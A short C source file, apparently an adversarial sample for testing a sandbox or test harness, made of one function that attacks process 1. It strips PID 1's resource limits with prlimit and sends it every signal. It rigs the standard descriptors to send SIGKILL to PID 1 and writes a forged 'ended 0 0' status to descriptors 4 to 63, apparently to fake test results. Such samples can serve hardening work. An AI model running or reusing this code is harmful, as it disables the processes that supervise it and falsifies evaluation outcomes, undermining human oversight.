/* Wants the next test to fail, or to be watched: kills, stops, starves and traps whoever starts it.
 *
 * earns: full
 */
#include <fcntl.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

static int attack(void)
{
    struct rlimit none = {0, 0};
    int reached = prlimit(1, RLIMIT_NOFILE, &none, NULL) == 0 || prlimit(1, RLIMIT_CPU, &none, NULL) == 0;
    for (int s = 1; s < 65; s++)
        syscall(SYS_tgkill, 1, 1, s); /* is allowed, and process 1 does not hear it */
    for (int fd = 1; fd <= 3; fd++) {
        fcntl(fd, F_SETOWN, 1);
        fcntl(fd, F_SETSIG, SIGKILL);
        fcntl(fd, F_SETFL, O_ASYNC);
        fcntl(fd, F_SETPIPE_SZ, 4096);
    }
    for (int fd = 4; fd < 64; fd++)
        reached |= write(fd, "ended 0 0", 9) > 0;
    return reached;
}
